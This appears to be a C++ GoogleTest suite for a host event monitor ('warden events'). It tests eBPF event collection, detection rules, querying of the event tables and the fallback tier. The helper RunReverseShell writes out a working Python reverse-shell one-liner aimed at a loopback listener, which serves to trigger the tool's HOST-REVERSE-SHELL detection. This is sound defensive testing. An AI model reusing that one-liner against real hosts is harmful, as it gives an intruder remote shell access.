// `warden events` end to end, as a user runs it (root, on the live kernel):
// watch streams events with parent chains and the findings of the host
// rules, the event tables read what it stored, status reports a running
// collector, and forcing eBPF off yields the fallback with its gaps stated.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstring>
#include <filesystem>
#include <functional>
#include <map>
#include <nlohmann/json.hpp>
#include <sstream>
#include <thread>

#include "testing/test_util.h"

namespace warden {
namespace {

using nlohmann::json;

std::vector<json> JsonLines(const std::string& text) {
  std::vector<json> out;
  std::istringstream in(text);
  std::string line;
  while (std::getline(in, line)) {
    if (line.empty()) continue;
    json j = json::parse(line, nullptr, false);
    EXPECT_FALSE(j.is_discarded()) << "not JSON: " << line;
    if (!j.is_discarded()) out.push_back(std::move(j));
  }
  return out;
}

int FreePort() {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  if (bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0)
    ADD_FAILURE() << "bind to a free port: " << std::strerror(errno);
  socklen_t len = sizeof(a);
  getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len);
  close(fd);
  return ntohs(a.sin_port);
}

// A python reverse shell to a listener of ours; returns the listener's port.
int RunReverseShell() {
  int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (bind(listener, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0 || listen(listener, 1) != 0)
    ADD_FAILURE() << "listen on loopback: " << std::strerror(errno);
  socklen_t len = sizeof(a);
  getsockname(listener, reinterpret_cast<sockaddr*>(&a), &len);
  int port = ntohs(a.sin_port);
  std::thread shell([port] {
    testing::RunCommand({"/usr/bin/python3", "-c",
                         "import socket,subprocess,os;s=socket.socket();s.connect((\"127.0.0.1\"," +
                             std::to_string(port) +
                             "));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
                             "subprocess.call([\"/bin/sh\",\"-i\"])"});
  });
  pollfd p{listener, POLLIN, 0};
  if (poll(&p, 1, 10000) == 1) {
    int conn = accept(listener, nullptr, nullptr);
    if (conn >= 0) {
      (void)!write(conn, "exit\n", 5);
      shell.join();
      close(conn);
    } else {
      shell.join();
    }
  } else {
    shell.join();
  }
  close(listener);
  return port;
}

class EbpfCliTest : public ::testing::Test {
 protected:
  void SetUp() override {
    if (geteuid() != 0) GTEST_SKIP() << "`warden events watch` needs root";
  }
};

TEST_F(EbpfCliTest, WatchStreamsEventsFindingsAndFeedsTheEventTables) {
  testing::TempDir dir;
  const std::string journal = dir.path() + "/events.journal";
  const int allowed = FreePort();
  int other = FreePort();
  while (other == allowed) other = FreePort();
  const std::string rules = dir.WriteFile("ports.yaml",
                                          "- id: HOST-LISTEN-UNEXPECTED-PORT\n"
                                          "  title: Listener outside the allowed ports\n"
                                          "  risk_level: medium\n"
                                          "  match:\n"
                                          "    event: listen\n"
                                          "    result: 0\n"
                                          "    socket.local_port: {not_in: [" +
                                              std::to_string(allowed) + "]}\n");
  const std::string tool = "/tmp/warden-cli-test-" + std::to_string(getpid());
  std::filesystem::copy_file("/bin/true", tool, std::filesystem::copy_options::overwrite_existing);
  const int64_t started = std::chrono::duration_cast<std::chrono::seconds>(
                              std::chrono::system_clock::now().time_since_epoch())
                              .count();

  testing::CommandResult watch;
  std::thread collector([&] {
    watch = testing::RunCommand({testing::WardenBinary(), "events", "watch", "--format", "jsonl",
                                 "--duration", "7", "--journal", journal, "--rules", rules});
  });
  ASSERT_TRUE(testing::WaitFor(
      "the collector's status file",
      [&] { return std::filesystem::exists(journal + ".status.json"); }, std::chrono::seconds(10),
      std::chrono::milliseconds(20)));

  ASSERT_EQ(testing::RunShell(tool + " from-the-test; true").exit_code, 0);
  const int shell_port = RunReverseShell();
  for (int port : {allowed, other})
    testing::RunCommand({"/usr/bin/python3", "-c",
                         "import socket;s=socket.socket();s.bind((\"0.0.0.0\"," +
                             std::to_string(port) + "));s.listen()"});

  // While it runs, `events status` reports the live collector (its status
  // file is refreshed every second).
  json s;
  testing::CommandResult status;
  testing::WaitFor(
      [&] {
        status = testing::RunCommand({testing::WardenBinary(), "events", "status", "--format",
                                      "json", "--journal", journal});
        s = json::parse(status.out, nullptr, false);
        return status.exit_code != 0 || s.is_discarded() ||
               s.value("events_processed", uint64_t{0}) > 0;
      },
      std::chrono::seconds(5), std::chrono::milliseconds(200));
  ASSERT_EQ(status.exit_code, 0) << status.err;
  ASSERT_FALSE(s.is_discarded()) << status.out;
  EXPECT_TRUE(s["collector"]["running"].get<bool>());
  EXPECT_EQ(s["tier"], "ebpf");
  EXPECT_GT(s.value("events_processed", uint64_t{0}), 0u);
  EXPECT_EQ(s.value("drops_total", uint64_t{1}), 0u);

  collector.join();
  ASSERT_EQ(watch.exit_code, 0) << watch.err;
  EXPECT_NE(watch.err.find("watching host events (tier ebpf"), std::string::npos) << watch.err;
  std::filesystem::remove(tool);

  std::vector<json> records = JsonLines(watch.out);
  const json* tool_exec = nullptr;
  std::map<int64_t, const json*> execs;
  for (const json& r : records) {
    if (r["record"] != "event" || r["event"] != "exec") continue;
    execs[r["process"]["pid"].get<int64_t>()] = &r;
    if (r["process"]["exe"] == tool) tool_exec = &r;
  }
  ASSERT_NE(tool_exec, nullptr) << "no exec event for " << tool;
  EXPECT_EQ((*tool_exec)["process"]["args"], (json::array({tool, "from-the-test"})));
  // Its parent is the `sh -c` the test ran, whose parent is this test.
  int64_t sh_pid = (*tool_exec)["process"]["ppid"];
  ASSERT_TRUE(execs.count(sh_pid)) << "no exec event for the parent shell";
  EXPECT_EQ((*execs[sh_pid])["process"]["ppid"], getpid());
  EXPECT_EQ((*tool_exec)["ancestors"][0]["pid"], sh_pid);
  EXPECT_EQ((*tool_exec)["ancestors"][0]["name"], "sh");
  EXPECT_EQ((*tool_exec)["ancestors"][1]["pid"], getpid());

  auto finding = [&](const std::string& rule, const std::function<bool(const json&)>& pred) {
    for (const json& r : records)
      if (r["record"] == "finding" && r["rule_id"] == rule && pred(r)) return true;
    return false;
  };
  EXPECT_TRUE(finding("HOST-EXEC-FROM-TMP", [&](const json& f) { return f["process"] == tool; }));
  EXPECT_TRUE(finding("HOST-REVERSE-SHELL", [&](const json& f) {
    return f["evidence"]["stdio_peer"]["port"] == shell_port && f["source"] == "host.ebpf" &&
           f["mitre_techniques"][0] == "T1059.004";
  }));
  EXPECT_TRUE(finding("HOST-LISTEN-UNEXPECTED-PORT", [&](const json& f) {
    return f["evidence"]["socket"]["local_port"] == other;
  }));
  EXPECT_FALSE(finding("HOST-LISTEN-UNEXPECTED-PORT", [&](const json& f) {
    return f["evidence"]["socket"]["local_port"] == allowed;
  }));

  // The event tables of a later, separate `warden query` see what was stored.
  std::string env = "WARDEN_EVENTS_JOURNAL=" + journal + " ";
  auto rows = testing::RunShell(env + testing::WardenBinary() +
                                " query --format json \"SELECT path, cmdline, parent, syscall "
                                "FROM bpf_process_events WHERE time >= " +
                                std::to_string(started - 1) + " AND path = '" + tool + "'\"");
  ASSERT_EQ(rows.exit_code, 0) << rows.err;
  json table = json::parse(rows.out, nullptr, false);
  ASSERT_TRUE(table.is_array()) << rows.out;
  ASSERT_EQ(table.size(), 1u) << rows.out;
  EXPECT_EQ(table[0]["cmdline"], tool + " from-the-test");
  EXPECT_EQ(table[0]["parent"], sh_pid);
  EXPECT_EQ(table[0]["syscall"], "execve");
  auto future = testing::RunShell(
      env + testing::WardenBinary() +
      " query --format json \"SELECT count(*) AS n FROM bpf_process_events WHERE time > " +
      std::to_string(started + 3600) + "\"");
  EXPECT_EQ(json::parse(future.out)[0]["n"], 0);
  auto listens = testing::RunShell(
      env + testing::WardenBinary() +
      " query --format json \"SELECT local_port FROM bpf_socket_events WHERE syscall = "
      "'listen' AND local_port IN (" +
      std::to_string(allowed) + ", " + std::to_string(other) + ") ORDER BY local_port\"");
  json l = json::parse(listens.out, nullptr, false);
  ASSERT_TRUE(l.is_array()) << listens.out << listens.err;
  EXPECT_EQ(l.size(), 2u) << listens.out;
}

TEST_F(EbpfCliTest, ForcingEbpfOffReportsTheFallbackAndWhatItDoesNotSee) {
  auto json_status = testing::RunShell("WARDEN_EBPF=off " + testing::WardenBinary() +
                                       " events status --format json");
  ASSERT_EQ(json_status.exit_code, 0) << json_status.err;
  json s = json::parse(json_status.out, nullptr, false);
  ASSERT_FALSE(s.is_discarded()) << json_status.out;
  EXPECT_EQ(s["tier"], "fallback");
  ASSERT_TRUE(s["coverage_gaps"].is_array());
  ASSERT_FALSE(s["coverage_gaps"].empty());
  EXPECT_NE(s["coverage_gaps"][0].get<std::string>().find("eBPF is not in use"), std::string::npos);
  bool proc_connector = false;
  for (const json& h : s["hooks"])
    proc_connector = proc_connector || (h["kind"] == "proc_connector" && h["attached"] == true);
  EXPECT_TRUE(proc_connector);

  auto table = testing::RunShell("WARDEN_EBPF=off " + testing::WardenBinary() +
                                 " events status --format table");
  ASSERT_EQ(table.exit_code, 0);
  EXPECT_NE(table.out.find("REDUCED COVERAGE"), std::string::npos) << table.out;
  EXPECT_NE(table.out.find("fallback"), std::string::npos);
}

TEST(EbpfCliRulesTest, RulesPrintsTheBuiltinCatalogWithMitreTechniques) {
  auto yaml = testing::RunCommand({testing::WardenBinary(), "events", "rules"});
  ASSERT_EQ(yaml.exit_code, 0);
  EXPECT_NE(yaml.out.find("id: HOST-REVERSE-SHELL"), std::string::npos);
  auto table =
      testing::RunCommand({testing::WardenBinary(), "events", "rules", "--format", "table"});
  ASSERT_EQ(table.exit_code, 0);
  EXPECT_NE(table.out.find("T1059.004"), std::string::npos);
  EXPECT_NE(table.out.find("HOST-KERNEL-MODULE-LOAD"), std::string::npos);
}

}  // namespace
}  // namespace warden
